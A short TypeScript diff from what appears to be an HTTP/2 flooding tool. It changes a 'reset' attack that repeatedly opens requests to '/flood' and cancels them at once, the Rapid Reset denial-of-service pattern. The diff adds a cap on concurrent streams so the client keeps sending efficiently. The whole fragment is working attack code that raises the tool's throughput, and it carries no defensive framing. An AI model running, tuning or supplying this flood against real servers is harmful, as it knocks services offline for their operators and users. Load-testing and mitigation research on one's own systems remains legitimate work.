@@ -89,12 +89,18 @@ const resets: Attack = {
   },
 }
 
+/** Streams of a session at once: Node's client looks through all that wait for a place again and again. */
+const OPEN_STREAMS_MAX = 200
+
 async function reset(session: ClientHttp2Session, tally: Tally, signal: AbortSignal): Promise<void> {
+  let openCount = 0
   while (!signal.aborted && !session.closed && !session.destroyed) {
-    for (let n = 0; n < 50; n++) {
+    for (let n = 0; n < 50 && openCount < OPEN_STREAMS_MAX; n++) {
       try {
         const stream = session.request({ ':path': '/flood' })
+        openCount++
         stream.on('error', () => undefined)
+        stream.on('close', () => openCount--)
         tally.sent++
         stream.close(constants.NGHTTP2_CANCEL)
       } catch {
